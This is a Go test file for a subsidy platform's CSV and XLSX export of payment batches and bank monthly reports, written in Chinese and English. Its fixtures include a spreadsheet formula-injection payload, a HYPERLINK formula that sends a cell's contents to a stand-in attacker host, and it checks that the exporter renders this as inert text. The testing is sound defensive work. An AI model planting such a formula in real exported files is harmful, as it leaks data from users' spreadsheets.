package subsidies

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"procfin/platform/money"
)

const hyperlink = `=HYPERLINK("http://evil.example/?d="&B2,"x")`

// fataler is what the readers need of a test: *testing.T or *rapid.T.
type fataler interface {
	Helper()
	Fatal(args ...any)
	Fatalf(format string, args ...any)
}

// readCSV checks that a CSV starts with the UTF-8 byte order mark and
// reads its rows.
func readCSV(t fataler, body []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(body, []byte{0xEF, 0xBB, 0xBF})
	if !ok {
		t.Fatalf("CSV without the UTF-8 byte order mark: %q", body[:min(len(body), 16)])
	}
	rows, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// sheetXML is what a test reads of an XLSX's first sheet, from the file's
// own XML: the declared dimension, the pane and every cell as written.
type sheetXML struct {
	Dimension struct {
		Ref string `xml:"ref,attr"`
	} `xml:"dimension"`
	Pane struct {
		YSplit      string `xml:"ySplit,attr"`
		TopLeftCell string `xml:"topLeftCell,attr"`
		State       string `xml:"state,attr"`
	} `xml:"sheetViews>sheetView>pane"`
	Cells []struct {
		R string `xml:"r,attr"`
		T string `xml:"t,attr"`
		F string `xml:"f"`
		V string `xml:"v"`
	} `xml:"sheetData>row>c"`
}

func readSheetXML(t fataler, body []byte) sheetXML {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	r, err := z.Open("xl/worksheets/sheet1.xml")
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	raw, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	var s sheetXML
	if err := xml.Unmarshal(raw, &s); err != nil {
		t.Fatal(err)
	}
	return s
}

// cellXML returns how a cell is written: its type attribute and value;
// ok false when the cell is absent (empty).
func (s sheetXML) cell(ref string) (typ, value string, ok bool) {
	for _, c := range s.Cells {
		if c.R == ref {
			return c.T, c.V, true
		}
	}
	return "", "", false
}

// The two claims of the test batch. Totals, by hand:
//
//	amounts   3100.00 + 1234567.89 = 1237667.89
//	interest  6900.00 + 2469135.78 = 2476035.78
//
// Dates as Excel day serials (days since 1899-12-30): 2027-01-01 is 46388
// (2025-01-01 is 45658, + 365 + 365), so 2027-02-20 is 46388 + 31 + 19 =
// 46438 and 2027-03-01 is 46388 + 31 + 28 = 46447.
func testBatch() (Batch, []Line) {
	lines := []Line{
		{ClaimID: "c1", SupplierUSCC: "91370100MA3C00001X", SupplierName: "泉城软件有限公司",
			SettlementBankName: "齐鲁银行济南分行", SettlementAccountNo: "6222021600012345", SettlementAccountName: "泉城软件有限公司",
			BankID: "qilu-bank", BankName: "齐鲁银行", ApplicationID: "a1", PaidOn: money.MustDate("2027-02-20"),
			InterestPaid: money.MustAmount("6900.00"), PolicyVersion: 1, Amount: money.MustAmount("3100.00")},
		{ClaimID: "c2", SupplierUSCC: "91370100MA3C00002Y", SupplierName: hyperlink, SettlementMissing: true,
			BankID: "@bank", BankName: "Bank", ApplicationID: "a2", PaidOn: money.MustDate("2027-03-01"),
			InterestPaid: money.MustAmount("2469135.78"), PolicyVersion: 2, Amount: money.MustAmount("1234567.89")},
	}
	return Batch{ID: "b1", Claims: 2, Total: money.MustAmount("1237667.89")}, lines
}

// TestBatchCSV: the payment file as CSV, in both languages: the byte
// order mark, headers from the catalogue, every line, and the totals row
// with each total under its column and the word for total first.
func TestBatchCSV(t *testing.T) {
	t.Parallel()
	b, lines := testBatch()
	for _, tc := range []struct {
		lang, name       string
		header, c2, tot  []string
		missing, wantDis string
	}{
		{lang: "", name: "贴息发放批次-b1.csv",
			header: []string{"贴息申请编号", "统一社会信用代码", "供应商名称", "结算账户开户行", "结算账号", "结算账户户名", "贴息金额（元）",
				"贷款银行编号", "贷款银行", "融资申请编号", "还款日", "实付利息（元）", "贴息政策版本", "备注"},
			missing: "待补充结算账户",
			tot:     []string{"合计", "", "", "", "", "", "1237667.89", "", "", "", "", "2476035.78", "", "共 2 笔"},
			wantDis: `attachment; filename="subsidy-batch-b1.csv"; filename*=UTF-8''%E8%B4%B4%E6%81%AF%E5%8F%91%E6%94%BE%E6%89%B9%E6%AC%A1-b1.csv`},
		{lang: "en", name: "subsidy-batch-b1.csv",
			header: []string{"Claim id", "Supplier USCC", "Supplier name", "Settlement bank", "Settlement account no.", "Settlement account name",
				"Subsidy amount (yuan)", "Lending bank id", "Lending bank", "Application id", "Repaid on", "Interest paid (yuan)", "Policy version", "Note"},
			missing: "settlement account missing",
			tot:     []string{"Total", "", "", "", "", "", "1237667.89", "", "", "", "", "2476035.78", "", "claims: 2"},
			wantDis: `attachment; filename="subsidy-batch-b1.csv"`},
	} {
		f, err := BatchFile(b, lines, CSV, tc.lang)
		if err != nil {
			t.Fatal(err)
		}
		if f.Name != tc.name || f.ContentType != "text/csv; charset=utf-8" || f.Disposition() != tc.wantDis {
			t.Fatalf("%q: file %q %q, disposition %q", tc.lang, f.Name, f.ContentType, f.Disposition())
		}
		rows := readCSV(t, f.Body)
		want := [][]string{tc.header,
			{"c1", "91370100MA3C00001X", "泉城软件有限公司", "齐鲁银行济南分行", "6222021600012345", "泉城软件有限公司", "3100.00",
				"qilu-bank", "齐鲁银行", "a1", "2027-02-20", "6900.00", "1", ""},
			// A formula in a name or id is text ('=…); amounts stay numbers.
			{"c2", "91370100MA3C00002Y", "'" + hyperlink, "", "", "", "1234567.89",
				"'@bank", "Bank", "a2", "2027-03-01", "2469135.78", "2", tc.missing},
			tc.tot}
		if !slices.EqualFunc(rows, want, slices.Equal) {
			t.Fatalf("%q: rows\n%q\nwant\n%q", tc.lang, rows, want)
		}
	}
}

// TestBatchXLSX: the payment file as XLSX: amounts, counts and dates are
// number cells (dates under a date format), exact to the 分; text is
// string cells, never formulas; a frozen bold header in the reader's
// language; columns wide enough for Chinese; the totals row; and a
// dimension over every cell.
func TestBatchXLSX(t *testing.T) {
	t.Parallel()
	b, lines := testBatch()
	for _, lang := range []string{"zh-CN", "en"} {
		file, err := BatchFile(b, lines, XLSX, lang)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(file.ContentType, "spreadsheetml") || !strings.HasSuffix(file.Name, "b1.xlsx") {
			t.Fatalf("%s: %q %q", lang, file.Name, file.ContentType)
		}
		f, err := excelize.OpenReader(bytes.NewReader(file.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		sheet, header, total, note := "贴息发放", "贴息金额（元）", "合计", "共 2 笔"
		if lang == "en" {
			sheet, header, total, note = "Batch", "Subsidy amount (yuan)", "Total", "claims: 2"
		}
		if got := f.GetSheetList(); !slices.Equal(got, []string{sheet}) {
			t.Fatalf("%s: sheets %q", lang, got)
		}
		text := func(cell string) string {
			t.Helper()
			v, err := f.GetCellValue(sheet, cell)
			if err != nil {
				t.Fatal(err)
			}
			return v
		}
		if text("G1") != header || text("A4") != total || text("N4") != note || text("C2") != "泉城软件有限公司" || text("C3") != hyperlink {
			t.Fatalf("%s: G1 %q A4 %q N4 %q C2 %q C3 %q", lang, text("G1"), text("A4"), text("N4"), text("C2"), text("C3"))
		}
		// As shown: amounts with separators to the 分, dates as dates.
		for cell, want := range map[string]string{"G2": "3,100.00", "G3": "1,234,567.89", "G4": "1,237,667.89",
			"L3": "2,469,135.78", "L4": "2,476,035.78", "K2": "2027-02-20", "K3": "2027-03-01", "M3": "2"} {
			if got := text(cell); got != want {
				t.Errorf("%s: %s shows %q, want %q", lang, cell, got, want)
			}
		}

		// As written in the sheet's XML. A number cell has no t attribute
		// (ECMA-376 Part 1, 18.18.11: the type defaults to n, a number);
		// excelize's GetCellType reports it CellTypeUnset, a string
		// CellTypeSharedString or CellTypeInlineString.
		x := readSheetXML(t, file.Body)
		for cell, want := range map[string]string{"G2": "3100.00", "G3": "1234567.89", "G4": "1237667.89", "L2": "6900.00",
			"L3": "2469135.78", "L4": "2476035.78", "K2": "46438", "K3": "46447", "M2": "1", "M3": "2"} {
			typ, v, ok := x.cell(cell)
			if !ok || (typ != "" && typ != "n") || v != want {
				t.Errorf("%s: %s is written t=%q v=%q, want the number %s", lang, cell, typ, v, want)
			}
			if ct, err := f.GetCellType(sheet, cell); err != nil || (ct != excelize.CellTypeUnset && ct != excelize.CellTypeNumber) {
				t.Errorf("%s: %s is of type %v (%v), want a number", lang, cell, ct, err)
			}
			// Exact to the 分: the value read back equals the decimal.
			if got, err := decimal.NewFromString(v); err != nil || !got.Equal(decimal.RequireFromString(want)) {
				t.Errorf("%s: %s reads %q", lang, cell, v)
			}
		}
		for _, cell := range []string{"A1", "G1", "A2", "B2", "C2", "C3", "E2", "H3", "A4", "N3", "N4"} {
			typ, _, ok := x.cell(cell)
			if !ok || (typ != "s" && typ != "inlineStr") {
				t.Errorf("%s: %s is written t=%q (present %v), want a string", lang, cell, typ, ok)
			}
		}
		for _, c := range x.Cells {
			if c.F != "" {
				t.Errorf("%s: %s holds the formula %q", lang, c.R, c.F)
			}
		}
		// Empty cells are absent: no account for c2, nothing under the text columns in the totals.
		for _, cell := range []string{"D3", "E3", "B4", "K4", "M4"} {
			if _, _, ok := x.cell(cell); ok {
				t.Errorf("%s: %s is written, want empty", lang, cell)
			}
		}
		for cell, want := range map[string]string{"G2": "#,##0.00", "G4": "#,##0.00", "K2": "yyyy-mm-dd"} {
			id, err := f.GetCellStyle(sheet, cell)
			if err != nil {
				t.Fatal(err)
			}
			st, err := f.GetStyle(id)
			if err != nil {
				t.Fatal(err)
			}
			got := map[int]string{4: "#,##0.00"}[st.NumFmt]
			if st.CustomNumFmt != nil {
				got = *st.CustomNumFmt
			}
			if got != want {
				t.Errorf("%s: %s has the number format %d %q, want %q", lang, cell, st.NumFmt, got, want)
			}
		}
		// 14 columns (A…N), a header, two claims and the totals: A1:N4.
		if x.Dimension.Ref != "A1:N4" {
			t.Errorf("%s: dimension %q, want A1:N4", lang, x.Dimension.Ref)
		}
		if x.Pane.State != "frozen" || x.Pane.YSplit != "1" || x.Pane.TopLeftCell != "A2" {
			t.Errorf("%s: pane %+v, want the header row frozen", lang, x.Pane)
		}
		if p, err := f.GetPanes(sheet); err != nil || !p.Freeze || p.YSplit != 1 {
			t.Errorf("%s: panes %+v (%v)", lang, p, err)
		}
		// 泉城软件有限公司 is 8 wide characters, 16 widths: its column is wider.
		if w, err := f.GetColWidth(sheet, "C"); err != nil || w < 16 {
			t.Errorf("%s: column C is %v wide (%v)", lang, w, err)
		}
		if w, err := f.GetColWidth(sheet, "F"); err != nil || w < 16 {
			t.Errorf("%s: column F is %v wide (%v)", lang, w, err)
		}
	}
}

// TestBankReportFiles: the monthly report in both formats and languages:
// a line per bank and the totals under their columns, the word for total
// first. A negative amount (a bank reported more repaid than disbursed)
// stays a number; a formula in a bank's id or name is text.
func TestBankReportFiles(t *testing.T) {
	t.Parallel()
	lines := []BankReportLine{
		{BankID: "+qilu", BankName: hyperlink, Applications: 3, Approvals: 2, Disbursed: money.MustAmount("500000.00"),
			Outstanding: money.MustAmount("-12.50"), Overdue: money.MustAmount("0.00"), Misdirected: 1, MisdirectedAmount: money.MustAmount("0.50")},
		{BankID: "jnrcb", BankName: "济南农商银行", Applications: 4, Approvals: 1, Disbursed: money.MustAmount("250000.01"),
			Outstanding: money.MustAmount("250000.01"), Overdue: money.MustAmount("1000.99"), Misdirected: 2, MisdirectedAmount: money.MustAmount("7.00")},
	}
	// Totals, by hand: applications 3 + 4 = 7, approvals 2 + 1 = 3,
	// disbursed 500000.00 + 250000.01 = 750000.01, outstanding
	// -12.50 + 250000.01 = 249987.51, overdue 0.00 + 1000.99 = 1000.99,
	// misdirected 1 + 2 = 3 paying 0.50 + 7.00 = 7.50.
	for _, lang := range []string{"zh-CN", "en"} {
		f, err := BankReportFile("2026-11", lines, CSV, lang)
		if err != nil {
			t.Fatal(err)
		}
		header := []string{"月份", "银行编号", "银行名称", "申请笔数", "批准笔数", "当月放款（元）", "月末贷款余额（元）", "月末逾期本金（元）", "错付笔数", "错付金额（元）"}
		total, name := "合计", "银行月报-2026-11.csv"
		if lang == "en" {
			header = []string{"Month", "Bank id", "Bank name", "Applications", "Approvals", "Disbursed in the month (yuan)",
				"Outstanding at the month's end (yuan)", "Overdue principal at the month's end (yuan)", "Misdirected payments", "Misdirected amount (yuan)"}
			total, name = "Total", "bank-report-2026-11.csv"
		}
		if f.Name != name || f.ASCIIName != "bank-report-2026-11.csv" {
			t.Fatalf("%s: names %q %q", lang, f.Name, f.ASCIIName)
		}
		want := [][]string{header,
			{"2026-11", "'+qilu", "'" + hyperlink, "3", "2", "500000.00", "-12.50", "0.00", "1", "0.50"},
			{"2026-11", "jnrcb", "济南农商银行", "4", "1", "250000.01", "250000.01", "1000.99", "2", "7.00"},
			{total, "", "", "7", "3", "750000.01", "249987.51", "1000.99", "3", "7.50"}}
		if rows := readCSV(t, f.Body); !slices.EqualFunc(rows, want, slices.Equal) {
			t.Fatalf("%s: rows\n%q\nwant\n%q", lang, rows, want)
		}

		f, err = BankReportFile("2026-11", lines, XLSX, lang)
		if err != nil {
			t.Fatal(err)
		}
		x := readSheetXML(t, f.Body)
		// 10 columns (A…J), a header, two banks and the totals: A1:J4.
		if x.Dimension.Ref != "A1:J4" || x.Pane.State != "frozen" || x.Pane.YSplit != "1" {
			t.Errorf("%s: dimension %q, pane %+v", lang, x.Dimension.Ref, x.Pane)
		}
		for cell, want := range map[string]string{"D2": "3", "E3": "1", "F2": "500000.00", "G2": "-12.50", "H3": "1000.99",
			"I3": "2", "J2": "0.50", "D4": "7", "E4": "3", "F4": "750000.01", "G4": "249987.51", "H4": "1000.99", "I4": "3", "J4": "7.50"} {
			if typ, v, ok := x.cell(cell); !ok || (typ != "" && typ != "n") || v != want {
				t.Errorf("%s: %s is written t=%q v=%q, want the number %s", lang, cell, typ, v, want)
			}
		}
		for _, cell := range []string{"A1", "A2", "B2", "C2", "A4"} {
			if typ, _, ok := x.cell(cell); !ok || (typ != "s" && typ != "inlineStr") {
				t.Errorf("%s: %s is written t=%q, want a string", lang, cell, typ)
			}
		}
		xf, err := excelize.OpenReader(bytes.NewReader(f.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer xf.Close()
		sheet := xf.GetSheetList()[0]
		if v, _ := xf.GetCellValue(sheet, "A1"); v != header[0] || sheet != map[string]string{"zh-CN": "银行月报", "en": "Bank report"}[lang] {
			t.Errorf("%s: sheet %q, A1 %q", lang, sheet, v)
		}
		if v, _ := xf.GetCellValue(sheet, "C2"); v != hyperlink {
			t.Errorf("%s: C2 %q, want the name as it is (a string cell)", lang, v)
		}
		if v, _ := xf.GetCellValue(sheet, "A4"); v != total {
			t.Errorf("%s: A4 %q, want %q", lang, v, total)
		}
	}
}

// TestFileDisposition: a name outside ASCII is sent as filename*
// (RFC 8187), every byte but attr-char percent-encoded, beside the ASCII
// name.
func TestFileDisposition(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ name, ascii, want string }{
		{"a.csv", "a.csv", `attachment; filename="a.csv"`},
		// 银 is E9 93 B6, 行 E8 A1 8C; space and quote are encoded.
		{`银行 "x".csv`, "b.csv", `attachment; filename="b.csv"; filename*=UTF-8''%E9%93%B6%E8%A1%8C%20%22x%22.csv`},
	} {
		if got := (File{Name: tc.name, ASCIIName: tc.ascii}).Disposition(); got != tc.want {
			t.Errorf("%q: %q, want %q", tc.name, got, tc.want)
		}
	}
}
